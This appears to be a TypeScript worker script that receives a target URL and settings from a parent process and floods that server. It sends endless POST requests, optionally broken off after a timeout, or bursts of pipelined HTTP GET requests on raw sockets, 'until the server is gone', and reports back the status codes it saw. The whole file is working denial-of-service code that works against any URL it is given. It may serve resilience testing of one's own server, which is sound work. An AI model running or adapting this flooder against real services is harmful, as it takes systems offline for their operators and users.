import { once } from 'node:events';
import { connect } from 'node:net';

export interface Attack {
  readonly url: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
  /** How many requests are under way at a time. */
  readonly count: number;
  /** Milliseconds after which a request is broken off and the next one begins; absent where answers are waited for. */
  readonly breakOff?: number | undefined;
  /** Instead of the body: how many small requests each of the connections sends at once, before it reads an answer. */
  readonly pipelined?: number | undefined;
}

const [attackOn]: Attack[] = await once(process, 'message');
if (attackOn === undefined) throw new Error('Nothing to attack.');
const { url, headers, body, count, breakOff, pipelined } = attackOn;
const statuses = new Set<number>();

/** Sends the body again and again, until the server is gone. */
async function attack(): Promise<void> {
  for (;;) {
    const signal = breakOff === undefined ? null : AbortSignal.timeout(breakOff);
    try {
      const response = await fetch(url, { method: 'POST', headers, body, signal });
      await response.arrayBuffer();
      statuses.add(response.status);
    } catch {
      if (signal?.aborted !== true) return;
    }
  }
}

/** Sends many small requests at once on one connection, and as many again when all are answered, until the server is gone. */
async function burst(requests: number): Promise<void> {
  const { hostname, port, host, pathname } = new URL(url);
  const fields = Object.entries({ host, ...headers }).map(([name, value]) => `${name}: ${value}\r\n`);
  const request = `GET ${pathname} HTTP/1.1\r\n${fields.join('')}\r\n`;
  const socket = connect(Number(port), hostname);
  const send = (): void => void socket.write(request.repeat(requests));
  let waiting = requests;
  socket.setEncoding('latin1');
  socket.on('connect', send);
  socket.on('error', () => socket.destroy());
  socket.on('data', (text: string) => {
    for (const [, status] of text.matchAll(/HTTP\/1\.1 (\d{3})/g)) {
      statuses.add(Number(status));
      waiting -= 1;
    }
    if (waiting > 0) return;
    waiting = requests;
    send();
  });
  await once(socket, 'close');
}

const strike = pipelined === undefined ? attack : (): Promise<void> => burst(pipelined);
await Promise.all(Array.from({ length: count }, strike));
process.send?.([...statuses]);
process.disconnect();
